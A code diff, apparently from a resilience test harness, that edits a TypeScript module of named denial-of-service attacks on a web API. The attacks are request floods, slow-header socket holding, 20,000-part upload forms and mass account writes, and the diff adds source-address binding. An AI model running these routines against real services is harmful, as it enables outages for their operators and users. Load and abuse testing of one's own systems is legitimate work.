@@ -5,10 +5,12 @@ import { setTimeout as delay } from 'node:timers/promises'
 /** What an attacker has to know; a stranger knows the address alone. */
 export type Target = Readonly<{
   url: string
+  /** The address that the attack comes from. */
+  from: string
   /** A token of somebody with everything at its cap, and that person's lists. */
   heavy: { token: string; lists: readonly string[] }
   /** Tokens of the managers of one app. */
-  crew: { tokens: readonly string[]; app: string }
+  managers: { tokens: readonly string[]; app: string }
   /** Somebody who may upload a picture, and where. */
   uploader: { token: string; path: string }
   /** Where a large picture is shown. */
@@ -83,25 +85,25 @@ async function atRate(
   most = 500,
 ): Promise<void> {
   const startedAt = performance.now()
-  let underWay = 0
+  let inFlight = 0
   for (let turn = 0; !over.aborted; turn++) {
     await delay(Math.max(0, startedAt + (turn * 1000) / perSecond - performance.now()))
-    if (underWay >= most) continue
-    underWay++
-    void send(turn).finally(() => underWay--)
+    if (inFlight >= most) continue
+    inFlight++
+    void send(turn).finally(() => inFlight--)
   }
 }
 
 /** When the attack is over, what is still under way is dropped. */
-function openAgent(over: AbortSignal, maxSockets = 500): Agent {
-  const agent = new Agent({ keepAlive: true, maxSockets })
+function openAgent({ from }: Target, over: AbortSignal, maxSockets = 500): Agent {
+  const agent = new Agent({ keepAlive: true, maxSockets, localAddress: from })
   over.addEventListener('abort', () => agent.destroy())
   return agent
 }
 
 const repeat = (url: string, perSecond: number): Attack => {
   return async (target, tally, over) => {
-    const agent = openAgent(over)
+    const agent = openAgent(target, over)
     await atRate(perSecond, over, () => ask(agent, target.url + url, {}, tally))
   }
 }
@@ -126,7 +128,10 @@ async function trickle(count: number, target: Target, tally: Tally, over: AbortS
   while (!over.aborted) {
     const missing = count - sockets.filter((socket) => !socket.destroyed).length
     for (let left = Math.min(missing, 100); left > 0; left--) {
-      const socket = connect(Number(port), hostname).on('error', () => undefined)
+      const socket = connect({ port: Number(port), host: hostname, localAddress: target.from }).on(
+        'error',
+        () => undefined,
+      )
       socket.write('GET /v0.1/user HTTP/1.1\r\nX-Slow: ')
       sockets.push(socket)
       tally.sent++
@@ -141,8 +146,9 @@ export const ATTACKS = {
   '56 kB query, 10/s': repeat(LONG_QUERY, 10),
   'worst query within the bounds, 100/s': repeat(WORST_QUERY, 100),
   'worst query behind #, 100/s': repeat(FRAGMENT_QUERY, 100),
-  'ten capped lists at once': async ({ url, heavy }, tally, over) => {
-    const agent = openAgent(over)
+  'ten capped lists at once': async (target, tally, over) => {
+    const { url, heavy } = target
+    const agent = openAgent(target, over)
     const walk = async (first: number) => {
       for (let turn = first; !over.aborted; turn++) {
         const list = heavy.lists[turn % heavy.lists.length] ?? ''
@@ -153,32 +159,36 @@ export const ATTACKS = {
     }
     await Promise.all(Array.from({ length: 10 }, (_, each) => walk(each)))
   },
-  '150 accounts write to one owner': async ({ url, crew }, tally, over) => {
+  '150 accounts write to one owner': async (target, tally, over) => {
+    const { url, managers } = target
     const write = async (token: string, member: number) => {
-      const agent = openAgent(over, 1)
+      const agent = openAgent(target, over, 1)
       for (let turn = 0; !over.aborted; turn++) {
         const body = JSON.stringify({ display_name: `Tide ${member} ${turn}` })
-        const status = await ask(agent, url + crew.app, { method: 'PATCH', token, body }, tally)
+        const status = await ask(agent, url + managers.app, { method: 'PATCH', token, body }, tally)
         if (status >= 400) await delay(50)
       }
     }
-    await Promise.all(crew.tokens.map(write))
+    await Promise.all(managers.tokens.map(write))
   },
-  '500 anonymous /oauth2 requests/s': async ({ url }, tally, over) => {
-    const agent = openAgent(over)
+  '500 anonymous /oauth2 requests/s': async (target, tally, over) => {
+    const { url } = target
+    const agent = openAgent(target, over)
     await atRate(500, over, (turn) => {
       const [path, sent] = OAUTH[turn % OAUTH.length]?.(turn) ?? ['', {}]
       return ask(agent, url + path, sent, tally)
     })
   },
-  'forms of 20,000 parts, 10/s': async ({ url, uploader }, tally, over) => {
-    const agent = openAgent(over)
+  'forms of 20,000 parts, 10/s': async (target, tally, over) => {
+    const { url, uploader } = target
+    const agent = openAgent(target, over)
     const type = `multipart/form-data; boundary=${BOUNDARY}`
     const sent = { method: 'POST', token: uploader.token, body: FORM, type }
     await atRate(10, over, () => ask(agent, url + uploader.path, sent, tally), 20)
   },
-  '100 readers of a picture of 1 MiB': async ({ url, picture }, tally, over) => {
-    const agent = openAgent(over, 100)
+  '100 readers of a picture of 1 MiB': async (target, tally, over) => {
+    const { url, picture } = target
+    const agent = openAgent(target, over, 100)
     const read = async () => {
       while (!over.aborted) {
         if ((await ask(agent, url + picture, {}, tally)) !== 200) await delay(500)
